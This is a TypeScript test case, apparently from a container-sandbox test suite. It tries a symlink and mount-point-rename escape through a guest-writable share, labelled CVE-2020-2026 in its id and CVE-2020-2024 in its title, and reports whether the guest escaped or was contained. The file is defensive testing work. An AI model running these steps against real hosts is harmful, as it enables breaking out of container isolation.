import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, symlinkSync } from 'node:fs'
import { contained, escaped, type Attack } from '../../attack.ts'
import { notForOthers } from '../../hostile-agent/no-agent.ts'
import { root } from '../../raw-fuse/fuse.ts'
import { guarded, reportOf } from '../../raw-fuse/site.ts'

export const attack: Attack = {
  id: 'CVE-2020-2026',
  title: 'a symlink in the share where the host mounts next, and a mount point renamed before the host unmounts (CVE-2020-2024)',
  family: 'guest',
  leak: "any directory of the host: the next container's rootfs is mounted over it, or it is unmounted",
  bound: 'guest',
  notFor: notForOthers,
  control: {
    weak: 'a share whose top the guest may write, and a mount that follows links',
    async run(site) {
      for (const name of ['share', 'rootfs', 'outside']) mkdirSync(`${site.directory}/${name}`)
      symlinkSync(`${site.directory}/outside`, `${site.directory}/share/next`)
      const mounts = execFileSync('unshare', ['--mount', 'sh', '-ec', `mount --bind ${site.directory}/rootfs ${site.directory}/share/next; cat /proc/self/mountinfo`], { encoding: 'utf8' })
      return mounts.includes(` ${site.directory}/outside `) ? escaped('the next container\'s rootfs lies over a directory outside of the share') : contained('mounted in the share')
    },
  },
  async run(site) {
    const fuse = await guarded(site)
    const outside = `${site.directory}/outside`
    const binds = await fuse.walk('.binds')
    const c1 = await fuse.walk('c1')
    for (const [holder, names] of [[root, ['next', 'c2', '.binds']], [binds, ['2', '3']], [c1, ['rootfs']]] as const) {
      if (holder === undefined) throw new Error('the share is not as the shim makes it')
      for (const name of names) {
        await fuse.rename(holder, name, root, 'away')
        await fuse.rmdir(holder, name)
        await fuse.unlink(holder, name)
        await fuse.symlink(holder, name, outside)
        await fuse.mkdir(holder, name)
        await fuse.chmod(holder, 0o777)
      }
    }
    await fuse.rename(root, 'c1', root, 'c2')
    await fuse.rename(c1 ?? root, 'rootfs', root, 'next')
    const report = await reportOf(fuse)
    if (report.error !== undefined) return escaped(`the next container could not be made or removed: ${report.error}`)
    if ((report.strangers?.length ?? 0) > 0) return escaped(`mounted outside of the share: ${report.strangers?.join(' ')}`)
    if (report.left.length > 0 || !existsSync(`${outside}/canary`)) return escaped(`left: ${report.left.join(' ')}`)
    return contained('nothing could be planted; the next container was mounted in the share, and all of it unmounted')
  },
}
